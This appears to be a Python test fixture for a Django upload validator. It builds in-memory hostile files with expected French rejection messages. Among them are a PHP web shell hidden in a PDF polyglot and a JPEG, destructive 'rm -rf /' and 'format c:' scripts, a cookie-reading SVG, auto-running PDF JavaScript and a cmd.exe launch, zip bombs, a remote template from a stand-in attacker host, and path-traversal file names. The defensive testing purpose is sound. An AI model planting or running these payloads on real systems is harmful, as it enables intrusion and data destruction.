"""Hostile files an attacker (or an infected computer) could send, with the reason each must
be refused for. Built in memory: nothing here is a real threat, only its shape."""

import io
import zipfile
import zlib
from dataclasses import dataclass

from django.core.files.uploadedfile import SimpleUploadedFile

from applications.tests.builders import PDF
from core.tests.clamav import EICAR

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00"
    b"\x00\x00\x00IEND\xaeB`\x82"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200
OLE_ENCRYPTED = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>fetch('/x')</script></body></html>"
OOXML_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

WRONG_TYPE = "Le contenu du fichier ne correspond pas à son extension."
NOT_ACCEPTED = "Ce type de fichier n'est pas accepté."
HIDDEN = "Le fichier contient un autre contenu caché"
MACROS = "Les documents contenant des macros ne sont pas acceptés."
BOMB = "Le fichier est anormalement compressé et a été refusé par sécurité."
ACTIVE_PDF = "Les PDF contenant du JavaScript, des actions automatiques ou des fichiers intégrés"
EMBEDDED = "Les documents contenant des objets incorporés ou des liens vers des fichiers externes"


@dataclass(frozen=True)
class Hostile:
    case: str
    name: str
    content: bytes
    message: str

    def upload(self):
        return SimpleUploadedFile(self.name, self.content, content_type="application/pdf")


def office(marker, extra=None, content_types="<Types/>", compress=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compress) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr(marker, "<document/>")
        for path, data in (extra or {}).items():
            archive.writestr(path, data)
    return buffer.getvalue()


def pdf_with(body):
    """The test PDF with one more object before its trailer."""
    head, trailer = PDF.split(b"trailer")
    return head + body + b"\ntrailer" + trailer


# A real PDF, accepted by the type checks, carrying the EICAR test string in a stream: what
# clamd (with the signatures of core/tests/clamav.py) must find.
INFECTED_PDF = pdf_with(b"4 0 obj<</Length %d>>stream\n%s\nendstream endobj" % (len(EICAR), EICAR))


def _compressed_object_stream(data):
    packed = zlib.compress(data)
    return pdf_with(
        b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
        + packed
        + b"\nendstream endobj"
    )


def _zip_bomb(marker):
    # 50 MB of zeros squeezed into about 50 KB: a ratio far beyond any real document.
    folder = marker.split("/")[0]
    return office(marker, {f"{folder}/sharedStrings.xml": b"0" * (50 * 1024 * 1024)})


def _external_template():
    rels = (
        '<Relationships><Relationship Id="rId1" TargetMode="External" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://attaquant.example/modele.dotm"/></Relationships>'
    )
    return office("word/document.xml", {"word/_rels/settings.xml.rels": rels})


def _zip_polyglot():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.php", "<?php system($_GET['c']); ?>")
    return PDF + buffer.getvalue()


HOSTILE_FILES = [
    Hostile("exe renamed .pdf", "statuts.pdf", EXE, WRONG_TYPE),
    Hostile("HTML renamed .pdf", "statuts.pdf", HTML, WRONG_TYPE),
    Hostile("PNG renamed .docx", "presentation.docx", PNG, WRONG_TYPE),
    Hostile("ELF binary renamed .pdf", "statuts.pdf", ELF, WRONG_TYPE),
    Hostile("Windows executable", "installer.exe", EXE, NOT_ACCEPTED),
    Hostile("shell script", "installer.sh", b"#!/bin/sh\nrm -rf /\n", NOT_ACCEPTED),
    Hostile("batch file", "lancer.bat", b"@echo off\r\nformat c:\r\n", NOT_ACCEPTED),
    Hostile("double extension", "rapport.pdf.exe", EXE, NOT_ACCEPTED),
    Hostile("PDF+ZIP polyglot", "statuts.pdf", _zip_polyglot(), HIDDEN),
    Hostile("JPEG carrying PHP", "photo.jpg", JPEG + b"<?php system($_GET['c']); ?>", HIDDEN),
    Hostile("PNG carrying HTML", "logo.png", PNG + HTML, HIDDEN),
    Hostile("PDF that is also HTML", "statuts.pdf", pdf_with(b"%" + HTML), HIDDEN),
    # Django's own message when the form sees it, the checker's when a service is called.
    Hostile("empty file", "statuts.pdf", b"", "est vide."),
    Hostile("macro-enabled .docm", "plan.docm", office("word/document.xml"), NOT_ACCEPTED),
    Hostile(
        "docx with vbaProject.bin",
        "plan.docx",
        office("word/document.xml", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        MACROS,
    ),
    Hostile(
        "docx declaring macros",
        "plan.docx",
        office("word/document.xml", content_types=f"<Types>{OOXML_WORD}.macroEnabled</Types>"),
        MACROS,
    ),
    Hostile("zip bomb as .docx", "plan.docx", _zip_bomb("word/document.xml"), BOMB),
    Hostile("zip bomb as .xlsx", "budget.xlsx", _zip_bomb("xl/workbook.xml"), BOMB),
    Hostile("encrypted PDF", "statuts.pdf", PDF + b"trailer<</Encrypt 5 0 R>>", "mot de passe"),
    Hostile("password-protected docx", "plan.docx", OLE_ENCRYPTED, WRONG_TYPE),
    Hostile("SVG with a script", "logo.svg", SVG, NOT_ACCEPTED),
    Hostile("SVG renamed .png", "logo.png", SVG, WRONG_TYPE),
    Hostile(
        "PDF with JavaScript on opening",
        "statuts.pdf",
        pdf_with(b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj 1 0 obj<</OpenAction 4 0 R>>"),
        ACTIVE_PDF,
    ),
    Hostile(
        "PDF launching a program",
        "statuts.pdf",
        pdf_with(b"4 0 obj<</S/Launch/F(cmd.exe)>>endobj"),
        ACTIVE_PDF,
    ),
    Hostile(
        "PDF with an escaped JavaScript name",
        "statuts.pdf",
        pdf_with(b"4 0 obj<</S/J#61vaScript/J#53(app.alert(1))>>endobj"),
        ACTIVE_PDF,
    ),
    Hostile(
        "PDF with JavaScript in a compressed object stream",
        "statuts.pdf",
        _compressed_object_stream(b"5 0 <</S/JavaScript/JS(app.alert(1))>>"),
        ACTIVE_PDF,
    ),
    Hostile(
        "PDF with an embedded file",
        "statuts.pdf",
        pdf_with(b"4 0 obj<</Type/EmbeddedFile/Length 3>>stream\nMZ\x90\nendstream endobj"),
        ACTIVE_PDF,
    ),
    Hostile("docx fetching a remote template", "plan.docx", _external_template(), EMBEDDED),
    Hostile(
        "docx with an OLE object",
        "plan.docx",
        office("word/document.xml", {"word/embeddings/oleObject1.bin": EXE}),
        EMBEDDED,
    ),
    Hostile(
        "xlsx linked to an external workbook",
        "budget.xlsx",
        office("xl/workbook.xml", {"xl/externalLinks/externalLink1.xml": "<externalLink/>"}),
        EMBEDDED,
    ),
]

# Names no honest browser sends. Django's upload parser already keeps only the last part of
# a path and drops unprintable characters; what reaches the portal is then cleaned again and
# only ever shown: files are stored under random names. (name, the name shown afterwards)
HOSTILE_NAMES = [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\x.pdf", "x.pdf"),
    ("../receipts/1/DOS-2026-0001-AR01.pdf", "DOS-2026-0001-AR01.pdf"),
    ("stat\x00uts.pdf", "statuts.pdf"),
    ("stat\x1buts\x07.pdf", "statuts.pdf"),
    ("facture\u202efdp.pdf", "facturefdp.pdf"),
    ("CON.pdf", "CON_.pdf"),
    ("a" * 300 + ".pdf", "a" * 150 + ".pdf"),
]
